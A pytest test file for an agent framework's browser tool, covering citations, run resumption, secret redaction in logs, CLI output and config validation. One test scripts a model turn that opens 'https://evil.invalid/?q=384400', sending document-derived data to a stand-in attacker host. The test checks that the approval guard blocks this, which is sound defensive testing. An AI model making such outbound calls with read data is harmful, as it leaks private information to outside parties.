"""The browser in a run: from the task file to citations in the answer, approval, and a run that goes on elsewhere."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from cadenza.agent import Agent, Approvals
from cadenza.agent.events import RunFinished, ToolFinished, TurnFinished, from_json, is_durable, to_json
from cadenza.agent.journal import Journal
from cadenza.harmony import Message
from cadenza.model.engines.scripted import ScriptedEngine
from cadenza.tools import Citation
from cadenza.tools.browser import BrowserTool, Corpus

COMMAND = [sys.executable, "-m", "cadenza.agent"]
ANSWER = "The Moon is 384,400 km away 【1†L2】, and pulls the sea 【2†L0-L1】."


def call(function: str, **arguments: Any) -> Message:
    text = json.dumps(arguments)
    return Message.assistant(text, channel="analysis", recipient=f"browser.{function}", content_type="code")


TURNS = [
    [call("search", query="how far is the Moon?")],
    [call("open", id="moon.md")],
    [call("open", id="sea.txt")],
    [Message.assistant(ANSWER, channel="final")],
]


@pytest.fixture
def documents(tmp_path: Path) -> Path:
    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "moon.md").write_text("# The Moon\n\nThe Moon is 384,400 km away from the Earth.\n")
    (folder / "sea.txt").write_text("The Moon pulls the sea.\nThe password is swordfish-42.\n")
    return folder


def agent(documents: Path, journal: Path | None = None, *, after: int = 0, **more: Any) -> Agent[Any]:
    browser = BrowserTool(search=Corpus(documents, index=documents.parent / "index.db"))
    engine = ScriptedEngine(TURNS[after:])
    return Agent(model=engine, tools=[browser], journal=journal, current_date="2026-01-01", **more)


@pytest.mark.anyio
async def test_what_an_answer_cites_is_resolved(documents: Path) -> None:
    result = await agent(documents, secrets={"PASS": "swordfish-42"}).run("go")
    first, second = result.citations
    at = ANSWER.index("【1")
    assert first == Citation(
        start=at,
        end=at + len("【1†L2】"),
        url="moon.md",
        title="The Moon",
        text="The Moon is 384,400 km away from the Earth.",
    )
    assert (second.url, second.title) == ("sea.txt", "sea")
    assert second.text == "The Moon pulls the sea.\nThe password is [secret PASS]."


@pytest.mark.anyio
async def test_a_run_that_died_goes_on_with_its_pages(documents: Path, tmp_path: Path) -> None:
    whole = [event async for event in agent(documents, tmp_path / "whole.db").stream("go") if is_durable(event)]
    end = whole[-1]
    assert isinstance(end, RunFinished)
    assert len(end.citations) == 2
    assert [from_json(json.loads(json.dumps(to_json(event)))) for event in whole] == whole
    for kept in range(2, len(whole)):
        path = tmp_path / f"{kept}.db"
        with Journal(path) as journal:
            journal.append(*whole[:kept])
        turns = sum(isinstance(event, TurnFinished) for event in whole[:kept])
        resumed = await agent(documents, path, after=turns).resume(end.run)
        assert (resumed.citations, resumed.transcript.ids) == (end.citations, end.ids), kept
        with Journal(path) as journal:
            assert list(journal.verify()) == []


@pytest.mark.anyio
async def test_the_log_holds_no_secret_of_a_page(documents: Path, tmp_path: Path) -> None:
    await agent(documents, tmp_path / "runs.db", secrets={"PASS": "swordfish-42"}).run("go")
    with Journal(tmp_path / "runs.db") as journal:
        events = journal.events("")
    assert any(isinstance(event, ToolFinished) and event.memory for event in events)
    assert "swordfish" not in json.dumps([to_json(event) for event in events])


@pytest.mark.anyio
async def test_an_address_leaves_only_with_a_yes_once_private_documents_were_read(documents: Path) -> None:
    browser = BrowserTool(search=Corpus(documents, index=documents.parent / "index.db"), allow=("evil.invalid",))
    out = call("open", id="https://evil.invalid/?q=384400")
    turns = [[out], [call("search", query="moon")], [out], [Message.assistant("done", channel="final")]]
    for granted, status in (((), "denied"), (("open",), "error")):
        run = Agent(model=ScriptedEngine(turns), tools=[browser], approvals=Approvals(granted=granted))
        results = [event async for event in run.stream("go") if isinstance(event, ToolFinished)]
        assert [result.status for result in results] == [status if granted else "denied", "ok", status]


def task(documents: Path, browser: Any = None) -> dict[str, Any]:
    keys = ("channel", "recipient", "content")
    turns = [[{key: message.to_json().get(key) for key in keys} for message in turn] for turn in TURNS]
    return {
        "model": {"engine": "scripted", "turns": turns},
        "input": "How far is the Moon?",
        "tools": [{"browser": {"corpus": str(documents)} if browser is None else browser}],
    }


def run(*arguments: str, input: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*COMMAND, *arguments], input=json.dumps(input), capture_output=True, text=True, timeout=120)


def test_sources_are_shown_below_the_answer_and_the_answer_alone_on_stdout(
    documents: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    done = run("run", "-", input=task(documents))
    assert (done.returncode, done.stdout) == (0, f"{ANSWER}\n"), done.stderr
    assert done.stderr.splitlines()[-2:] == ["【1†L2】 The Moon (moon.md)", "【2†L0-L1】 sea (sea.txt)"]
    assert list((tmp_path / "cache" / "cadenza" / "corpora").iterdir())
    events = [json.loads(line) for line in run("run", "-", "--json", input=task(documents)).stdout.splitlines()]
    assert [cited["url"] for cited in events[-1]["citations"]] == ["moon.md", "sea.txt"]


def test_every_wrong_browser_is_told_by_validate(tmp_path: Path) -> None:
    wrong = [
        ({"corpus": "./nowhere"}, "tools[0].browser.corpus: ", "nowhere: no such file"),
        ({"search": "gogle"}, "tools[1].browser.search: ", "no search 'gogle'; there is brave, ddgs, exa, searxng"),
        ({"corpus": ".", "search": "exa"}, "tools[2].browser: ", "corpus or search, not both"),
        ({"url": "http://127.0.0.1"}, "tools[3].browser: ", "the address of searxng"),
        ({"allow": ["https://a.org/"]}, "tools[4].browser.allow[0]: ", "should match"),
        ({"guard": "none"}, "tools[5].browser.guard: ", "unknown key"),
        ({"search": "searxng", "url": "127.0.0.1:8888"}, "tools[6].browser: ", "'127.0.0.1:8888' is no address; write"),
    ]
    told = task(tmp_path) | {"tools": [{"browser": browser} for browser, _, _ in wrong]}
    done = run("validate", "-", input=told)
    assert done.returncode == 2
    for _, where, what in wrong[1:]:
        assert any(where in line and what in line for line in (done.stdout + done.stderr).splitlines()), what
    done = run("validate", "-", input=told | {"tools": told["tools"][:1]})
    assert wrong[0][1] in done.stdout + done.stderr
    assert wrong[0][2] in done.stdout + done.stderr


def test_a_browser_with_nothing_to_search_in_is_told_when_it_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("SEARXNG_URL", "EXA_API_KEY", "BRAVE_API_KEY"):
        monkeypatch.delenv(name, raising=False)
    done = run("run", "-", "--quiet", input=task(tmp_path) | {"tools": ["browser"]})
    assert done.returncode == 1
    assert done.stderr.startswith("agent: browser: nothing to search with: give it a folder (corpus: ./docs)")
